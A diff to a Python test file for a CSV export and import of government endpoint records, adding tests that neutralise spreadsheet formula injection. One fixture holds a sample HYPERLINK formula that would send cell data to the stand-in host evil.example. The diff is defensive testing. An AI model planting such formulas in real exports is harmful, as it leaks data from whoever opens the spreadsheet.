@@ -41,7 +41,7 @@ def test_export_endpoints_writes_the_import_format_in_tree_order(tree):
         HEADER + "TW,Trung ương,central,,,,,,,true\r\n"
         "A01,An Giang,province,TW,,,,,,true\r\n"
         'T01,"Hà Nội, thủ đô",province,TW,"Văn phòng ""UBND""",,sip:hanoi@vc.gov.vn,'
-        "+84 24 3825 0000,vp@hanoi.gov.vn,true\r\n"
+        "'+84 24 3825 0000,vp@hanoi.gov.vn,true\r\n"
         "X00004,Ba Đình,commune,T01,,,,,,false\r\n"
     )
 
@@ -53,7 +53,7 @@ def test_export_endpoints_of_a_queryset_writes_only_those_sites(tree):
 
     assert text.splitlines()[1:] == [
         'T01,"Hà Nội, thủ đô",province,TW,"Văn phòng ""UBND""",,sip:hanoi@vc.gov.vn,'
-        "+84 24 3825 0000,vp@hanoi.gov.vn,true",
+        "'+84 24 3825 0000,vp@hanoi.gov.vn,true",
         "X00004,Ba Đình,commune,T01,,,,,,false",
     ]
 
@@ -82,6 +82,49 @@ def test_export_then_import_into_an_empty_database_rebuilds_the_tree(tree):
 
     assert (report.created, report.errors) == (4, [])
     assert export_endpoints() == text
+
+
+@pytest.fixture
+def formulas(tree):
+    """Names and contacts a spreadsheet would run as formulas if written as they are."""
+    EndpointFactory(
+        code="F01",
+        name='=HYPERLINK("http://evil.example/?"&A1,"Mở")',
+        level=Level.PROVINCE,
+        parent=tree,
+        organisation="-abc",
+        address="@SUM(1+1)",
+        contact_phone="+84 24 0000 0000",
+    )
+    return tree
+
+
+def test_export_endpoints_writes_formula_cells_as_text(formulas):
+    text = export_endpoints()
+
+    assert [line for line in text.splitlines() if line.startswith("F01,")] == [
+        'F01,"\'=HYPERLINK(""http://evil.example/?""&A1,""Mở"")",province,TW,\'-abc,\'@SUM(1+1),,'
+        "'+84 24 0000 0000,,true"
+    ]
+
+
+def test_export_then_import_keeps_formula_like_values(formulas):
+    before = list(Endpoint.objects.order_by("pk").values())
+
+    report = import_endpoints(export_endpoints().encode())
+
+    assert report == ImportReport(created=0, updated=0, unchanged=5, skipped=0, written=True)
+    assert list(Endpoint.objects.order_by("pk").values()) == before
+
+
+def test_import_reads_a_neutralised_cell_as_its_value(tree):
+    text = HEADER + "F02,'-abc,province,TW,'=x,,,'+84 24 3825 0000,,true\r\n"
+
+    report = import_endpoints(text.encode())
+
+    assert report.errors == []
+    site = Endpoint.objects.get(code="F02")
+    assert (site.name, site.organisation, site.contact_phone) == ("-abc", "=x", "+84 24 3825 0000")
 
 
 @pytest.mark.parametrize("count", [1, 3])
